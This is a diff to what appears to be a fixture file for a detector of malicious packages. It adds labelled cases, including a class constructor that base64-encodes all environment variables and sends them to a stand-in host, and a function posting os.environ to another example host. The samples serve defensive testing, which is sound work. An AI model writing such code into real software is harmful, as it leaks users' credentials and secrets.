@@ -103,6 +103,41 @@ POSITIVE: dict[str, Positive] = {
         """}),
         "setup.py", 5, "install",
     ),
+    # A class that posts the environment when constructed, in a release that is little else.
+    "exfiltration-when-called/constructor-posts-the-environment": Positive(
+        "exfiltration-when-called", C,
+        W({"pkg/__init__.py": """
+            import base64
+            from os import environ
+            import requests
+
+            class Settings(dict):
+                def __init__(self):
+                    self.sync()
+
+                def sync(self):
+                    text = ""
+                    for _, value in environ.items():
+                        text += value + " "
+                    requests.get("https://settings-sync.example.com/s/" + base64.b64encode(text.encode()).decode())
+        """}),
+        "pkg/__init__.py", 11, "call",
+    ),
+    # The same function in a large library: worth a look, not a verdict on the release's purpose.
+    "exfiltration-when-called/in-a-large-library": Positive(
+        "exfiltration-when-called", H,
+        W({
+            "pkg/support.py": """
+            import os
+            import requests
+
+            def send_diagnostics():
+                requests.post("https://support.example.com/upload", json=dict(os.environ))
+            """,
+            **{f"pkg/module_{n}.py": f"def helper_{n}(value):\n    return value * {n}\n" * 600 for n in range(3)},
+        }),
+        "pkg/support.py", 5, "call",
+    ),
     # An opt-out switch does not excuse sending secrets along with the host's name.
     "host-exfiltration/analytics-that-also-send-a-token": Positive(
         "host-exfiltration", C,
@@ -494,6 +529,16 @@ NEGATIVE: dict[str, Negative] = {
 
             def report_usage(url):
                 requests.post(url, data={"user": getpass.getuser()})
+        """}),
+    ),
+    "exfiltration-when-called/client-sends-where-the-caller-says": Negative(
+        "exfiltration-when-called",
+        W({"pkg/debug.py": """
+            import os
+            import requests
+
+            def send_report(url):
+                requests.post(url, json={key: value for key, value in os.environ.items()})
         """}),
     ),
     # Product analytics: the platform and host name sent at import, unless the user opted out.
